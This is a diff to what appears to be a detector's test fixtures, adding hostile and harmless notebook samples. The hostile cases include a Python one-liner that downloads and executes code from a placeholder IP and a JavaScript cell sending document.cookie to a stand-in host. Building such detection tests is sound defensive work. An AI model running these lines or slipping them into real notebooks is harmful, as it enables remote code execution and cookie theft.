@@ -63,6 +63,14 @@ def hostile() -> Iterator[Sample]:
     )
     yield "cell_magic.ipynb", _notebook("code", f"%%bash\n{_FETCH}")
     yield "cell_call.ipynb", _notebook("code", f"get_ipython().system({_FETCH!r})")
+    one_line = (
+        "python3 -c \"import urllib.request as u; exec(u.urlopen('http://203.0.113.9/').read())\""
+    )
+    yield "cell_one_line.ipynb", _notebook("code", f"!!{one_line}")
+    yield (
+        "cell_script.ipynb",
+        _notebook("code", "%%javascript\nfetch('http://x.example/' + document.cookie)"),
+    )
     yield "generate/generation_config.json", _json({"custom_generate": "evil/repo"})
     yield (
         "kernel/config.json",
@@ -122,6 +130,7 @@ def harmless() -> Iterator[Sample]:
         b"[build-system]\nrequires = ['setuptools>=61']\n[project.urls]\nHomepage = 'http://x.example'\n",
     )
     yield "cell_magic.ipynb", _notebook("code", "%%bash\npip install transformers\nls")
+    yield "cell_page.ipynb", _notebook("code", "%%html\n<style>td { color: red }</style>")
     yield (
         "kernel/config.json",
         _json({"model_type": "x", "attn_implementation": "flash_attention_2"}),
